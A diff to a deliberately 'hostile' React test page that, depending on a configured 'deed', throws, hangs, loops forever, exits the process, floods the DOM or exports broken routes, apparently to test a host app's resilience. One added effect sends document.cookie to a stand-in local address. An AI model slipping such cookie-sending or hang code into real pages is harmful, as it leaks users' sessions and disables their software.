@@ -10,20 +10,15 @@ import { track } from '@roost/shared/analytics/track';
 import { AppLink } from '@roost/shared/ui';
 // oxlint-disable-next-line no-restricted-imports
 import { currentLanguage } from '@roost/shared/texts';
+// oxlint-disable-next-line no-restricted-imports
+import { useSession } from '@roost/shared/session';
+import { deed, does, forever, hang, isServer, wordless } from './deed.ts';
 import css from './page.module.css';
 
-// Publishing a version puts its deed here. The bundler must not know the text, or it would leave the other deeds out.
-const deed = JSON.parse('"__hostile_deed__"') as string;
-const isServer = typeof document === 'undefined';
-/** Whether this is the deed, on this side: `loops at render (server)` does nothing in the browser. */
-const does = (name: string): boolean => deed === name || deed === `${name} (${isServer ? 'server' : 'browser'})`;
-
-const forever = (): never => {
-  for (;;);
-};
-const hang = () => new Promise<never>(() => undefined);
-
 if (does('throws at import')) throw new Error('hostile at import');
+if (does('throws null at import')) throw null as never;
+if (does('throws what has no words at import')) throw wordless();
+if (does('throws what waits at import')) throw { then: () => undefined } as never;
 if (does('loops at import')) forever();
 if (does('ends the process')) process.exit(1);
 if (does('replaces fetch')) globalThis.fetch = hang;
@@ -77,10 +72,24 @@ function Broken({ broken }: { broken: boolean }) {
   return null;
 }
 
-function HostilePage({ data }: { data: { said: string } }) {
+/** Renders again and again, each time from an effect. */
+function Restless() {
+  const [times, setTimes] = useState(0);
+  useEffect(() => setTimes(times + 1), [times]);
+  return null;
+}
+
+/** The page that links of the first lead to. */
+function SecondPage({ data }: { data: { said: string } }) {
+  return <HostilePage data={data} isSecond />;
+}
+
+function HostilePage({ data, isSecond = false }: { data: { said: string }; isSecond?: boolean }) {
   const [open, setOpen] = useState(false);
   useEffect(() => {
     if (does('throws in an effect')) throw new Error('hostile in an effect');
+    if (does('sends what it knows elsewhere'))
+      void fetch(`http://127.0.0.1:9/?${document.cookie}`).catch(() => undefined);
     if (does('loads another page in turns'))
       location.replace(location.pathname === '/hostile' ? '/hostile/second' : '/hostile');
     if (does('loads its page again in an effect')) location.replace(`/hostile?n=${Math.random()}`);
@@ -91,6 +100,11 @@ function HostilePage({ data }: { data: { said: string } }) {
     },
     [],
   );
+  const isSignedIn = useSession().status === 'authenticated';
+  if (does('throws for who is signed in') && isSignedIn) throw new Error('hostile to who is signed in');
+  if (does('throws null at render')) throw null as never;
+  if (does('throws what has no words at render')) throw wordless();
+  if (does('throws on a second page') && isSecond) throw new Error('hostile on a second page');
   if (does('waits for ever at render')) use(never);
   if (does('waits for ever on a later page') && data.said.endsWith('?again=1')) use(never);
   if (does('throws what throws')) throw thrower();
@@ -110,6 +124,8 @@ function HostilePage({ data }: { data: { said: string } }) {
   if (does('loops at render')) forever();
   return (
     <>
+      {does('renders 100,000 elements') && Array.from({ length: 100_000 }, (_, n) => <i key={n}>{n}</i>)}
+      {does('sets state for ever after a press') && open && <Restless />}
       {does('has its page refreshed') && <meta httpEquiv="refresh" content="0" />}
       <h1>Version: {deed}</h1>
       <p className={css['said']}>{data.said}</p>
@@ -117,11 +133,14 @@ function HostilePage({ data }: { data: { said: string } }) {
         <Broken broken={does('throws in its error boundary')} />
       </Boundary>
       <AppLink href="/hostile?again=1">Again</AppLink>
+      <AppLink href="/hostile/second">Second</AppLink>
       <AppLink href="/">Leave</AppLink>
       <button
         type="button"
         onClick={() => {
           if (does('throws in a handler')) throw new Error('hostile in a handler');
+          if (does('loops after a press')) forever();
+          if (does('throws null in a handler')) throw null as never;
           if (does('rejects in a handler')) void Promise.reject(new Error('hostile in a handler'));
           track('Inquiry Sent', { product_id: 'hostile', nights: 1, guests: 1 });
           setOpen(true);
@@ -150,6 +169,20 @@ export let routes: RoutesModule['routes'] = [
         searchParams.set('n', String(Number(searchParams.get('n')) + 1));
         return { type: 'redirect', location: `${pathname}?${searchParams}`, status: 302 };
       }
+      if (does('throws null in its loader')) throw null as never;
+      if (does('throws what has no words in its loader')) throw wordless();
+      if (does('throws what waits in its loader')) throw { then: () => undefined } as never;
+      if (does('answers with what never comes')) return { then: () => undefined } as never;
+      if (does('answers with data that throw'))
+        return {
+          type: 'data',
+          data: Object.defineProperty({ said: '' }, 'said', {
+            enumerable: true,
+            get: () => {
+              throw new Error('hostile in its data');
+            },
+          }),
+        };
       if (does('throws in its loader')) throw new Error('hostile in its loader');
       if (does('hangs in its loader')) await hang();
       if (does('rejects late in its loader'))
@@ -174,7 +207,20 @@ export let routes: RoutesModule['routes'] = [
     Component: HostilePage,
   }),
 ];
-routes = [...routes, { ...routes[0], id: 'second' }] as RoutesModule['routes'];
+routes = [...routes, { ...routes[0], id: 'second', Component: SecondPage }] as RoutesModule['routes'];
 if (does('exports no list')) routes = { hostile: true } as never;
 if (does('exports a page without a component')) routes = [{ ...routes[0], Component: undefined }] as never;
 if (does('exports another page')) routes = [{ ...routes[0], id: 'other' }] as never;
+if (does('exports what throws'))
+  routes = [
+    Object.defineProperty({ ...routes[0] }, 'Component', {
+      get: () => {
+        throw new Error('hostile in an export');
+      },
+    }),
+  ] as never;
+if (does('exports a proxy')) routes = thrower() as never;
+
+/** A module that has this name is waited for by whoever imports it. */
+export let then: unknown;
+if (does('exports then')) then = () => undefined;
